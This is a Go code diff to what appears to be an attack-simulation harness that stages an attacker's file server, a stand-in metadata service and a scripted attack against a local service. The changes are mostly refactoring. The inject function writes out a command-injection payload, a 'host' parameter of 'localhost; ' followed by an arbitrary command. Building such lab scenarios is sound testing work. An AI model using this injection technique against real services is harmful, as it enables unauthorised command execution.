@@ -85,7 +85,7 @@ func (s *stage) run(ctx context.Context) error {
 	if err := s.build(); err != nil {
 		return fmt.Errorf("set the stage: %w", err)
 	}
-	if err := s.serve(); err != nil {
+	if err := s.serve(ctx); err != nil {
 		return fmt.Errorf("set the stage: %w", err)
 	}
 	return s.play(ctx)
@@ -207,7 +207,7 @@ func copyFile(to, from string, mode fs.FileMode) (err error) {
 
 // serve starts the attacker's file server and the stand-in of the metadata
 // service, and fills in the ports that the plan left open.
-func (s *stage) serve() error {
+func (s *stage) serve(ctx context.Context) error {
 	depot := http.NewServeMux()
 	depot.HandleFunc("GET /updater", func(w http.ResponseWriter, _ *http.Request) {
 		io.WriteString(w, s.updater())
@@ -227,7 +227,7 @@ func (s *stage) serve() error {
 		at *netip.AddrPort
 		h  http.Handler
 	}{{&s.Plan.Depot, depot}, {&s.Plan.Metadata, meta}} {
-		l, err := net.Listen("tcp", sv.at.String())
+		l, err := listen(ctx, sv.at.String())
 		if err != nil {
 			return err
 		}
@@ -314,12 +314,12 @@ func (s *stage) start(ctx context.Context, rel string, args ...string) error {
 // play is the attack. After each part it looks for the part's effect, so that
 // a step is told as played only when it was.
 func (s *stage) play(ctx context.Context) error {
-	if err := s.start(ctx, cronPath, filepath.Dir(s.path(tablePath))); err != nil {
-		return err
-	}
 	addrFile := s.path(addrPath)
 	err := s.start(ctx, httpdPath, "-listen", s.Plan.Service.String(), "-path", s.secret, "-log", s.path(logPath), "-addr", addrFile)
 	if err != nil {
+		return err
+	}
+	if err := s.start(ctx, cronPath, filepath.Dir(s.path(tablePath))); err != nil {
 		return err
 	}
 	addr, err := os.ReadFile(addrFile)
@@ -448,11 +448,10 @@ func (s *stage) inject(ctx context.Context, command string) (string, error) {
 	}
 	ctx, cancel := context.WithTimeout(ctx, 10*time.Second)
 	defer cancel()
-	dialer := net.Dialer{LocalAddr: &net.TCPAddr{IP: s.Plan.Client.AsSlice()}}
-	client := &http.Client{Transport: &http.Transport{DialContext: dialer.DialContext, DisableKeepAlives: true}}
+	from := client(net.Dialer{LocalAddr: &net.TCPAddr{IP: s.Plan.Client.AsSlice()}})
 	u := url.URL{Scheme: "http", Host: s.Plan.Service.String(), Path: s.secret,
 		RawQuery: url.Values{"host": {"localhost; " + command}}.Encode()}
-	body, err := get(ctx, client, u.String())
+	body, err := get(ctx, from, u.String())
 	return string(body), err
 }
 
